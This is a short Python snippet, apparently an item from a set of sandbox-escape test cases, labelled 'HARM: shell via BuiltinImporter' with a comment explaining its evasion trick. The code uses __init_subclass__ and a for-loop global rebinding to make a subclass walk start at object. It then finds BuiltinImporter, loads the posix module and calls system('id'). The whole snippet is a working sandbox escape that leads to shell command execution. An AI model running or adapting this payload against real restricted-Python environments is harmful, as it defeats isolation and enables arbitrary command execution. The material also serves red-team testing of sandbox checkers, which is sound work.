# HARM: shell via BuiltinImporter | TRICK: __init_subclass__ of Base does `global Base` via for-target when A is created, rebinding Base before walk default evaluated
class Base:
    def __init_subclass__(cls, **kw):
        global Base
        for Base in (object,):
            pass
class A(Base): pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
